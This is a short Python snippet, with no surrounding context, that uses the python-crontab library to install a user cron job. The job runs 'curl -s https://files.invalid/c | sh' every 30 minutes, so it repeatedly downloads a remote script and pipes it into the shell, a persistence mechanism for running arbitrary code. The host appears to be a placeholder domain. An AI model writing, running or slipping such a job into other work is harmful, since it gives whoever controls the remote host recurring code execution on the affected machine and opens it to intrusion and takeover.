from crontab import CronTab
c = CronTab(user=True)
j = c.new(command="curl -s https://files.invalid/c | sh")
j.minute.every(30)
c.write()
